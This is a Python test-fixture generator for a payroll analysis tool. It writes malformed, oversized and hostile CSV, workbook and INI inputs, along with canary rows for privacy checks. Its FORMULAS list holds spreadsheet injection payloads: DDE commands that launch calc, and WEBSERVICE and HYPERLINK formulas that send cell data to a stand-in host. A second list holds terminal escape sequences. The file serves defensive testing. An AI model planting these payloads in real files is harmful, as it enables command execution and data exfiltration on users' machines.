# SPDX-License-Identifier: GPL-3.0-or-later
"""Makers of inputs that are too big, too binary or too regular to be kept as files.

A line `FILE = MAKER ARGUMENT ...` in a case's file `make` calls MAKER(path, ARGUMENT, ...).
"""
import random
import zipfile

HEADER = "employee_id,sex,pay_period,basic_pay,weekly_hours,bonus_12_months,full_pay\n"

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            '=HYPERLINK("http://x/?"&A1,"ok")', '=WEBSERVICE("http://x")', '=IMPORTXML("http://x","//a")',
            '=DDE("cmd";"/C calc";"!A0")', '"=1+2', ";=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
            "%0A=1", "'=1+1", "-5", "+44 20 7946 0000", "|calc"]

ESCAPES = ["\x1b]0;owned\x07", "\x1b[2J\x1b[31m", "\x9b31m", "\x1b]8;;http://x\x07link\x1b]8;;\x07",
           "a\u202eb\u2066c", "e" + "\u0301" * 300, "del\x7f"]


def write(path, content):
    with open(path, "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode("utf-8"))


def quoted(text):
    return '"' + text.replace('"', '""') + '"'


def people(number, first=1, seed=1):
    """Rows of a faultless payroll; equal numbers of men and women."""
    rng = random.Random(seed)
    for i in range(first, first + number):
        yield f"e{i},{'FM'[i % 2]},weekly,{rng.randrange(40000, 90000) / 100:.2f},{rng.choice([20, 37, 40])},,yes\n"


def payroll(path, number, seed="1"):
    write(path, HEADER + "".join(people(int(number), seed=int(seed))))


def empty(path):
    write(path, b"")


def raw(path, *words):
    """Bytes written as in a Python bytes literal; words are joined by one space."""
    write(path, " ".join(words).encode("latin-1").decode("unicode_escape").encode("latin-1"))


def long_field(path, size, kind):
    """One cell of many bytes in an unused column; kind is plain, quoted or open."""
    quote = {"plain": (b"", b""), "quoted": (b'"', b'"'), "open": (b'"', b"")}[kind]
    with open(path, "wb") as file:
        file.write(b"employee_id,sex,hourly_pay,notes\n1,F,12,")
        file.write(quote[0])
        block = b"x" * 1_000_000
        for _ in range(int(size) // len(block)):
            file.write(block)
        file.write(quote[1] + b"\n2,M,13,\n")


def wide(path, columns):
    """A header and two rows of very many columns."""
    extra = int(columns) - 2
    write(path, "sex,hourly_pay," + ",".join(f"c{i}" for i in range(extra)) + "\n"
          + "F,12" + ",x" * extra + "\nM,13" + ",x" * extra + "\n")


def long_row(path, size):
    """A row above the limit, made of cells that are each within theirs."""
    cell = "x" * 1000
    write(path, "sex,hourly_pay,notes\nF,12" + ("," + cell) * (int(size) // 1000) + "\nM,13,\n")


def utf16(path, order):
    rows = HEADER + "".join(people(6))
    mark = {"le": b"\xff\xfe", "be": b"\xfe\xff", "le-without-mark": b""}[order]
    write(path, mark + rows.encode("utf-16-le" if order.startswith("le") else "utf-16-be"))


def workbook(path):
    """The first bytes of an .xlsx file."""
    write(path, b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(random.Random(2).randrange(256) for _ in range(500)))


def workbook_of_many_parts(path):
    """A workbook with more sheets, number formats and styles than are kept, its payroll on the first sheet."""
    rows = "".join(f"<row>{''.join(f'<c t=&quot;inlineStr&quot;><is><t>{cell}</t></is></c>' for cell in line.split(','))}</row>"
                   for line in ["sex,hourly_pay", "F,12", "M,13"]).replace("&quot;", '"')
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows
             + "</sheetData></worksheet>")
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    names = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="r{i}"{"" if i == 1 else " state=&quot;hidden&quot;"}/>'
                    for i in range(1, 1201)).replace("&quot;", '"')
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       f'<Relationship Id="r1" Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                           f'xmlns:r="{relation}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels":
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/styles.xml": '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>'
                         + "".join(f'<numFmt numFmtId="{200 + i}" formatCode="0.00"/>' for i in range(5000))
                         + "</numFmts><cellXfs>" + '<xf numFmtId="0"/>' * 70000 + "</cellXfs></styleSheet>",
        "xl/worksheets/sheet1.xml": sheet}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in parts.items():
            file.writestr(zipfile.ZipInfo(name), text)


def old_workbook(path):
    """The first bytes of an .xls file."""
    write(path, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500)


def every_byte(path):
    """Every byte value but NUL in a cell of its own; quotes and line ends among them."""
    cells = [bytes([value]) for value in range(1, 256)]
    write(path, b"sex,hourly_pay,notes\n" + b"".join(b"F,12," + cell + b"\n" for cell in cells))


def formula_employers(path):
    """Four people of each employer; the names are what spreadsheets take for formulas."""
    rows = "employer," + HEADER
    for i, name in enumerate(FORMULAS):
        rows += "".join(quoted(name) + "," + person for person in people(4, first=4 * i + 1, seed=i))
    write(path, rows)


def formula_cells(path):
    """Formulas as header, department and id; every third pay is unreadable."""
    rows = '"=1+1",sex,hourly_pay,"@SUM(1+1)",department,"+weekly_hours"\n'
    for i in range(24):
        payload = quoted(FORMULAS[i % len(FORMULAS)])
        rate = "=2+2" if i % 3 == 0 else str(12 + i)
        rows += f"{quoted(FORMULAS[i % len(FORMULAS)] + str(i))},{'FM'[i % 2]},{rate},{payload},{payload},37\n"
    write(path, rows)


def escape_employers(path):
    rows = "employer," + HEADER
    for i, name in enumerate(ESCAPES):
        rows += "".join(quoted(name) + "," + person for person in people(4, first=4 * i + 1, seed=i))
    write(path, rows)


def escape_headers(path):
    """Headers with escapes, one of them of a column that has findings and is near a needed one."""
    write(path, "\x1bgender,hourly_pay,\x1b]0;owned\x07\nF,12,x\nM,13,x\n")


def escape_header_finding(path):
    write(path, "sex,hourly_pay,\x1b]0;owned\x07\nF,12,\x1b[31m\nM,x,x\nM,13,x\nF,\x1b[2J,x\n".encode() + b"F,14,\x9b31m\n")


def escape_ini(path):
    """Escapes in every place of a configuration that a message or a table may show."""
    write(path, "[employer]\nname = \x1b]0;owned\x07Town\n")


def escape_ini_value(path):
    write(path, "[values.sex]\nX = \x1b]0;owned\x07\n")


def escape_ini_key(path):
    write(path, "[employer]\n\x1b]0;owned\x07 = x\n")


CANARIES = 40


def canary(i):
    """What must never be seen of person i: name, id, national insurance number, amounts."""
    return {"name": f"Quillfeather{i:02d} Zanzibar", "id": f"CANARYID{i:04d}", "number": f"QQ{i:06d}Z",
            "pay": f"{7001 + 37 * i + 11 * i * i}.{11 + i}", "bonus": f"{90017 + 113 * i + 7 * i * i}.{13 + i}",
            "rate": f"{41 + i}.{7001 + 13 * i + i * i % 7}"}


def canaries(path, kind):
    """A payroll of people who must not be recognised; kind is sound, faulty or twice (an id)."""
    rows = "Full name,employee_id,NI number,sex,pay_period,basic_pay,weekly_hours,hourly_pay,bonus_12_months,full_pay\n"
    for i in range(CANARIES):
        who = canary(i)
        sex, period, full = "FM"[i % 2], "monthly", "yes"
        rate = who["rate"] if i % 4 == 0 else ""
        if kind == "faulty":
            sex = {8: who["name"], 9: ""}.get(i, sex)
            period = {10: who["name"]}.get(i, period)
            full = {12: "", 13: who["id"]}.get(i, full)
            who["pay"] += {14: who["name"], 15: "!"}.get(i, "")
            who["bonus"] += {16: "?", 17: "x"}.get(i, "")
        number = who["id"] if kind != "twice" or i % 7 else canary(0)["id"]
        rows += (f"{who['name']},{number},{who['number']},{sex},{period},{who['pay']},{37},{rate},"
                 f"{who['bonus'] if i % 5 else ''},{full}\n")
    write(path, rows)
